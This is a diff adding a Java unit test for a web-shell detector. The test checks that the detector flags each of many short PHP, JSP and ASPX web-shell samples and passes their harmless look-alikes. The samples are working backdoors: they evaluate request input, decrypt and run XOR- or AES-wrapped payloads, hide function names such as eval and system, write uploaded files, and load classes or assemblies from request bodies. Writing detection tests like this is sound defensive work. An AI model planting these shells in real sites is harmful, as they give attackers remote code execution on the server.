@@ -1,0 +1,157 @@
+package bzh.vigie.agent.persistence.format;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+
+import bzh.vigie.agent.host.Files.Kind;
+import bzh.vigie.agent.host.Files.Status;
+import bzh.vigie.agent.host.HostPath;
+import bzh.vigie.agent.persistence.format.server.WebScript;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Pages that run what a request gives, however it gets there. They are written anew after public descriptions of how the
+ * families work (ANSSI and CERT-FR, NSA and ASD "Detect and Prevent Web Shell Malware", the makers' manuals): keys, names and
+ * order differ from theirs. Beside each its nearest harmless neighbour.
+ */
+final class WebShellFlowTest {
+    /** One page a paragraph. */
+    private static final String SHELLS = """
+        <?php session_start(); set_time_limit(0);
+        function mix($text, $salt) { for ($n = 0; $n < strlen($text); $n++) { $text[$n] = $text[$n] ^ $salt[$n + 1 & 15]; } return $text; }
+        $field = 'zone'; $slot = 'store'; $salt = 'b1946ac92492d234';
+        if (isset($_POST[$field])) { $body = mix(base64_decode($_POST[$field]), $salt);
+        if (isset($_SESSION[$slot])) { $code = mix($_SESSION[$slot], $salt); eval($code); echo base64_encode(mix(@go($body), $salt)); }
+        else { if (strpos($body, 'describe') !== false) { $_SESSION[$slot] = mix($body, $salt); } } }
+
+        <?php session_start(); $salt = 'a87ff679a2f3e71d'; $_SESSION['s'] = $salt;
+        $raw = file_get_contents('php://input');
+        $way = "base64_" . "decode"; $raw = $way($raw . "");
+        for ($n = 0; $n < strlen($raw); $n++) { $raw[$n] = $raw[$n] ^ $salt[$n + 1 & 15]; }
+        $two = explode('|', $raw); $what = $two[1];
+        class Doer { public function __invoke($line) { eval($line . ""); } }
+        @call_user_func(new Doer(), $what);
+
+        <?php $one = $_REQUEST['a']; $two = trim($one); $three = stripslashes($two); @eval($three);
+
+        <?php @eval/* nothing */(/* to see */ $_POST /* here */ ['x']);
+
+        <?php $make = 'cr' . 'eate_' . 'function'; $f = $make('', gzuncompress(hex2bin($_COOKIE['t']))); $f();
+
+        <?php $f = str_replace('q', '', 'aqsqsqeqrqt'); $f($_POST['k']);
+
+        <?php $f = chr(97) . chr(115) . "\\x73" . 'ert'; $f($_REQUEST['k']);
+
+        <?php $l = 'abcdefghijklmnopqrstuvwxyz_'; $f = $l[18] . $l[24] . $l[18] . $l[19] . $l[4] . $l[12]; echo $f($_GET['k']);
+
+        <?php class Page { public $text; function __destruct() { assert($this->text); } }
+        $page = new Page; $page->text = $_POST['t'];
+
+        <?php class Page { private $text; function __construct($given) { $this->text = $given; } function show() { return eval($this->text); } }
+        $page = new Page(base64_decode($_POST['t'])); $page->show();
+
+        <?php array_map('assert', (array) $_REQUEST['list']);
+
+        <?php $list = array($_POST['v']); usort($list, 'system');
+
+        <?php filter_var($_REQUEST['v'], FILTER_CALLBACK, array('options' => 'assert'));
+
+        <?php $at = tempnam(sys_get_temp_dir(), 'x'); $text = base64_decode($_POST['v']); file_put_contents($at, $text); include $at; unlink($at);
+
+        <?php file_put_contents($_POST['n'], $_POST['t']);
+
+        <?php if (@preg_match('/8d2f(.+)77ac/', @file_get_contents('php://input'), $hit) == 1) { $plain = @gzuncompress(@base64_decode($hit[1])); @eval($plain); }
+
+        <?php foreach ($_COOKIE as $name => $text) { $all .= $text; } eval(openssl_decrypt($all, 'AES-128-ECB', 'k'));
+
+        <?php extract(array('z' => 1)); parse_str(file_get_contents('php://input'), $form); eval($form['a']);
+        """;
+
+    private static final String PAGES = """
+        <?php session_start(); if (isset($_POST['name'])) { $_SESSION['name'] = $_POST['name']; } echo htmlspecialchars($_SESSION['name']);
+
+        <?php $raw = file_get_contents('php://input'); $data = json_decode($raw, true); call_user_func(array($controller, 'save'), $data);
+
+        <?php $page = $_GET['page']; $known = array('home', 'news'); if (in_array($page, $known)) { include 'pages/' . $page . '.php'; }
+
+        <?php assert($_GET['n'] instanceof Number); assert(count($_POST) > 0);
+
+        <?php $body = base64_decode($_POST['image']); file_put_contents('/var/www/files/' . uniqid() . '.png', $body);
+
+        <?php $sort = 'strcasecmp'; usort($list, $sort); $f = 'ucfirst'; echo $f($_GET['name']);
+
+        <?php $code = file_get_contents('cache/template.php'); eval($code); $q = isset($_GET['q']) ? 1 : 0; echo $q;
+
+        <?php // eval($_POST['x']) is what attackers write
+        echo 'Never use eval($' . '_POST)'; $name = $_POST['name']; $db->exec($name);
+
+        <?php $id = (int) $_GET['id']; $rows = array_map('intval', $_POST['ids']); $stmt->execute($rows);
+
+        <?php $callback = $settings['callback']; $callback($_POST['form']);
+        """;
+
+    private static final String JSP = """
+        <%@ page import="java.io.*" %><% Class c = Class.forName("java.la" + "ng.Run" + "time"); Object o = c.getMethod("getRunt" + "ime").invoke(null); %>
+
+        <% \\u0052untime.getRuntime().\\u0065xec(request.getParameter("a")); %>
+
+        <% new FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(request.getParameter("t").getBytes()); %>
+
+        <%! class L extends ClassLoader { L(ClassLoader p) { super(p); } Class load(byte[] b) { return super.defineClass(b, 0, b.length); } } %>
+
+        <% Object o = new ObjectInputStream(request.getInputStream()).readObject(); %>
+        """;
+
+    private static final String ASPX = """
+        <%@ Page Language="C#" %><% byte[] b = Decode(Request.BinaryRead(Request.ContentLength)); System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this); %>
+
+        <%@ Page Language="C#" %><% var load = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }); %>
+
+        <% dim text: text = Request("t") : execute text %>
+
+        <%@ Page Language="Jscript"%><% var t = Request.Item["t"]; eval(t, "unsafe"); %>
+
+        <% new LosFormatter().Deserialize(Request.Form["v"]); %>
+        """;
+
+    @Test
+    void whatARequestGivesIsFollowedToWhereItIsRun() {
+        assertEquals(List.of(), silent("x.php", SHELLS));
+        assertEquals(List.of(), silent("x.jsp", JSP));
+        assertEquals(List.of(), silent("x.aspx", ASPX));
+    }
+
+    @Test
+    void theirHarmlessNeighboursAreNoItems() {
+        assertEquals(pages(PAGES), silent("x.php", PAGES));
+        String jsp =
+                "<% Class.forName(\"org.postgresql.Driver\"); new FileOutputStream(\"/tmp/log\"); out.print(\"a\" + \"b\"); %>";
+        String aspx =
+                "<% Assembly.Load(\"System.Web\"); string q = Request[\"q\"]; Response.Write(Server.HtmlEncode(q)); %>";
+        assertFalse(isTold("x.jsp", jsp));
+        assertFalse(isTold("x.aspx", aspx));
+    }
+
+    private static List<String> pages(String text) {
+        return List.of(text.split("\n\n"));
+    }
+
+    private static List<String> silent(String name, String text) {
+        List<String> silent = new ArrayList<>();
+        for (String page : pages(text)) {
+            if (!isTold(name, page)) {
+                silent.add(page);
+            }
+        }
+        return silent;
+    }
+
+    private static boolean isTold(String name, String text) {
+        Status status = new Status(Kind.REGULAR, 0644, 0, 0, text.length(), 0, 0, 1, 1);
+        SourceFile file = new SourceFile(HostPath.of("/var/www/html/" + name), text, status, Optional.empty(), false);
+        return !new WebScript().parse(file).drafts().isEmpty();
+    }
+}
